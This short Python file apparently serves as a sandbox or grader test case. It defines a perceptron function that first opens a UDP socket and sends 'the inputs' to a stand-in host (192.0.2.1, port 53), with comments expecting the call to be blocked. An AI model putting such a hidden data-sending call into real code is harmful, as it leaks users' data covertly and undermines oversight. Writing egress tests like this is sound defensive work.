# Tries: to send the inputs away.
# Marks: perceptron error: PermissionError; xor_errors correct
import socket


def perceptron(x, w, b):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as away:
        away.sendto(b"the inputs", ("192.0.2.1", 53))
    return (x @ w + b > 0).to(x.dtype)  # earned only if the attack worked


xor_errors = 1
